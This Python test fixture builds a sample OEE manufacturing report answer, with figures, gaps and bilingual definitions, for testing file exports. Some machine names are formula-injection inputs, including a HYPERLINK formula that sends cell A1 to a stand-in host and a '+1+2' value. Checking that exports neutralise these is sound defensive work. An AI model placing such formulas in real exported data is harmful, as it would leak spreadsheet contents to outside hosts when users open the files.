"""Answers of reports as the API gives them, for the files that are made of them."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from typing import Any, Literal

from domain.reports.answer import ReportAnswer, read_answer
from domain.reports.definitions import DEFINITIONS

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"machine")'


def figure(value: float | None, **more: Any) -> dict[str, Any]:
    told = {"value": value, "part": None, "whole": None, "absent": None, "absent_words": None}
    return told | {"target": None} | more


def definitions(codes: tuple[str, ...], language: Literal["en", "zh"]) -> list[dict[str, Any]]:
    return [
        {
            "code": code,
            "version": DEFINITIONS[code].version,
            "name": getattr(DEFINITIONS[code].name, language),
            "formula": getattr(DEFINITIONS[code].formula, language),
            "note": getattr(DEFINITIONS[code].note, language),
            "source": DEFINITIONS[code].source,
            "unit": DEFINITIONS[code].unit.value,
            "better": DEFINITIONS[code].better.value,
        }
        for code in codes
    ]


def content(language: Literal["en", "zh"] = "en", *, rows: int = 12, days: int = 30) -> Any:
    """An answer with every kind of figure, a gap, and names that want to be formulas."""
    first = date(2026, 11, 1)
    codes = ("oee", "availability", "quality_ratio", "lead_time", "scrap_cost", "micro_stops")
    names = [FORMULA, "+1+2", "压力机 🏭 03"] + [f"M-{n:02d} 铣床" for n in range(4, rows + 1)]

    def figures(n: int) -> dict[str, Any]:
        return {
            "oee": figure(0.6 + (n * 7 % 13) / 50, part="3/5", whole="1"),
            "availability": figure(0.8 + (n * 5 % 11) / 80),
            "lead_time": figure(93_600_000.0 + n * 3_600_000),
            "scrap_cost": figure(1234.5 + n, currency="CNY"),
            "micro_stops": figure(float(n)),
        }

    start = datetime(2026, 10, 31, 16, tzinfo=UTC)
    series = [
        {
            "first": (first + timedelta(days=n)).isoformat(),
            "from": (start + timedelta(days=n)).isoformat(),
            "until": (start + timedelta(days=n + 1)).isoformat(),
            "figures": figures(n)
            if n != 9
            else {"oee": figure(None, absent="not_planned", absent_words="no working time")},
        }
        for n in range(days)
    ]
    return {
        "report": "oee",
        "scope": {"site": "hz", "line": None, "machine": None, "sites": ["hz"]},
        "period": {
            "first": first.isoformat(),
            "last": (first + timedelta(days=days - 1)).isoformat(),
            "grain": "day",
            "time_zone": "Asia/Shanghai",
            "from": start.isoformat(),
            "until": (start + timedelta(days=days)).isoformat(),
        },
        "as_of": "2026-12-01T00:00:00+00:00",
        "revision_at": None,
        "preliminary": True,
        "definitions": definitions(codes, language),
        "totals": {
            "oee": figure(0.7261, part="7261", whole="10000", target=0.75),
            "availability": figure(0.881, target=0.85),
            "quality_ratio": figure(None, absent="not_produced", absent_words="nothing was made"),
            "lead_time": figure(270_000_000.0, target=259_200_000),
            "scrap_cost": figure(45_231.5, currency="CNY"),
            "micro_stops": figure(-3.0),
        },
        "rows": [
            {"key": f"hz/press/l1/m{n:02d}", "label": name, "link": None, "figures": figures(n)}
            for n, name in enumerate(names, 1)
        ],
        "series": series,
    }


def answer(language: Literal["en", "zh"] = "en", **shape: int) -> ReportAnswer:
    return read_answer(content(language, **shape))
